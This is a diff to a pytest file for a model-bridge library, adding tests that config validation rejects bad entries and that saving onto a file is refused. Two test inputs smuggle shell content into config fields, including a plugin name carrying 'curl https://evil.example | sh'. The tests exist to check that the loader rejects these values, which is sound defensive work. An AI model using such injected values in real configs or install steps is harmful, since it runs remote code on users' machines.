@@ -11,7 +11,7 @@ from huggingface_hub.errors import LocalEntryNotFoundError
 
 import n2n
 import n2n.hub.checkpoints
-from n2n.errors import BridgeConfigError, WeightsError
+from n2n.errors import BridgeConfigError, InvalidInputError, WeightsError
 
 
 @pytest.fixture(scope="module")
@@ -105,11 +105,27 @@ def test_unknown_hyperparameter_in_config(saved):
     (lambda c: c["target"]["options"].update(dtype="float16"), r"target.options cannot set \['dtype'\]"),
     (lambda c: c["config"].update(auxiliary={}), r"config cannot set \['auxiliary'\]: they are the bridge's experts"),
     (lambda c: c["metrics"].update(trained_with=[0.5]), r"metrics.trained_with must map sampling settings .* got \[0.5\]"),
+    (lambda c: c["metrics"].update(trained_with={"foo": 1}), r"metrics.trained_with names \['foo'\], which are not sampling settings of cinn"),
+    # what n2n prints as the install command: a plain package name, never a shell line
+    (lambda c: c["target"].update(expert="x2", plugin="n2n-plugin-x2; curl https://evil.example | sh"),
+     r"target.plugin must be the name of the pip package that provides the expert .* got 'n2n-plugin-x2; curl"),
+    (lambda c: c["target"].update(expert="x2 --index-url https://evil.example"), r"target.expert must be an expert's name"),
 ])
 def test_config_entries_the_loader_cannot_take_are_named(saved, change, message):
     edit_config(saved, change)
     with pytest.raises(BridgeConfigError, match=message):
         n2n.load_bridge(saved)
+
+
+def test_save_pretrained_onto_a_file_is_refused_and_a_folders_own_samples_are_kept(bridge, tmp_path):
+    (tmp_path / "notes").write_text("mine")
+    with pytest.raises(InvalidInputError, match="notes is a file: a bridge is saved into a folder"):
+        bridge.save_pretrained(tmp_path / "notes")
+    assert (tmp_path / "notes").read_text() == "mine"
+    (tmp_path / "fresh").mkdir()
+    (tmp_path / "fresh" / "samples.png").write_bytes(b"the user's own")  # not an earlier bridge's: no config.json
+    bridge.save_pretrained(tmp_path / "fresh")
+    assert (tmp_path / "fresh" / "samples.png").read_bytes() == b"the user's own"
 
 
 def test_unreadable_weights_are_named_before_a_huge_config_is_built(saved, monkeypatch):
